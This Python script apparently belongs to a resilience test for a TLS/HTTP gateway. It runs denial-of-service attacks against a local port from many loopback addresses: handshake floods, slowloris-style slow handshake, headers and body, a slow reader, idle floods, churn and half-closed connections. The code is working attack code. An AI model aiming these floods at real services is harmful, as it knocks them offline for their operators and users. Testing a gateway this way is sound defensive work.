"""Attacks on a gateway: attack.py KIND PORT STATE SECONDS. Comes from many loopback addresses, each within its bounds.
Prints `ready` once it is under way, then `opened=N`."""
import selectors, socket, ssl, struct, sys, time

kind, port, state, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
end = None
opened = 0
context = ssl.create_default_context(cafile=f"{state}/certs/ca.crt")
context.check_hostname = False
context.load_cert_chain(f"{state}/certs/clients/customer.crt", f"{state}/certs/clients/customer.key")
token = open(f"{state}/certs/tokens/customer.jwt").read().strip()


def connect(small=False):
    global opened
    raw = socket.socket()
    raw.settimeout(5)
    if small:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    raw.bind((f"127.0.{1 + opened // 200 % 50}.{1 + opened % 200}", 0))
    raw.connect(("127.0.0.1", port))
    opened += 1
    return raw


def secure(small=False):
    return context.wrap_socket(connect(small))


def hello():
    """The first bytes of a handshake that will never go on."""
    outgoing = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), outgoing).do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()


def ready():
    global end
    print("ready", flush=True)
    end = time.monotonic() + seconds


def reset(raw):
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    raw.close()


def keep(make, count, drip=None):
    """Holds `count` connections; each says another byte of `drip` from time to time."""
    held = []
    for _ in range(count):
        try:
            held.append(make())
        except OSError:
            pass
    ready()
    position = 0
    while time.monotonic() < end:
        for connection in held if drip else []:
            try:
                connection.send(drip[position % len(drip):][:1])
            except OSError:
                pass
        position += 1
        time.sleep(0.2)


def after(first, make):
    connection = make()
    connection.sendall(first)
    return connection


def handshake_flood():
    """New handshakes as quickly as they can be asked for, each left after its dearest step."""
    first, ring = hello(), []
    ready()
    while time.monotonic() < end:
        try:
            raw = connect()
            raw.sendall(first)
            ring.append(raw)
        except OSError:
            pass
        if len(ring) > 600:
            for raw in ring[:300]:
                reset(raw)
            del ring[:300]


def whole_handshakes():
    """Clients with a good certificate that do nothing but connect."""
    ready()
    while time.monotonic() < end:
        try:
            secure().close()
        except OSError:
            pass


def churn():
    ready()
    count = 0
    while time.monotonic() < end:
        count += 1
        try:
            raw = connect()
            if count % 3 == 0:
                raw.sendall(b"GET / HTTP/1.1\r\n\r\n")
            if count % 2:
                reset(raw)
            else:
                raw.close()
        except OSError:
            pass


def large_answers():
    """Asks for more than the kernel keeps for a peer that reads nothing."""
    one = b"GET /openapi.json HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + token.encode() + b"\r\n\r\n"
    return after(one * 400, lambda: secure(small=True))


def slow_reader():
    keep(large_answers, 100)


def half_closed():
    def leave():
        connection = large_answers()
        connection.shutdown(socket.SHUT_WR)
        return connection

    def leave_early():
        raw = after(hello()[:50], connect)
        raw.shutdown(socket.SHUT_WR)
        return raw

    def either():
        return leave() if opened % 2 else leave_early()

    keep(either, 150)


head = b"POST /v1/ask HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nAuthorization: Bearer " + token.encode()
attacks = {
    "handshake-flood": handshake_flood,
    "whole-handshakes": whole_handshakes,
    "slow-handshake": lambda: keep(lambda: after(hello()[:9], connect), 900, drip=hello()[9:]),
    "slow-headers": lambda: keep(lambda: after(b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ", secure), 150, drip=b"y"),
    "slow-body": lambda: keep(lambda: after(head + b"\r\nContent-Length: 60000\r\n\r\n", secure), 150, drip=b" "),
    "slow-reader": slow_reader,
    "idle-flood": lambda: keep(connect, 1500),
    "churn": churn,
    "half-closed": half_closed,
}
attacks[kind]()
print(f"opened={opened}")
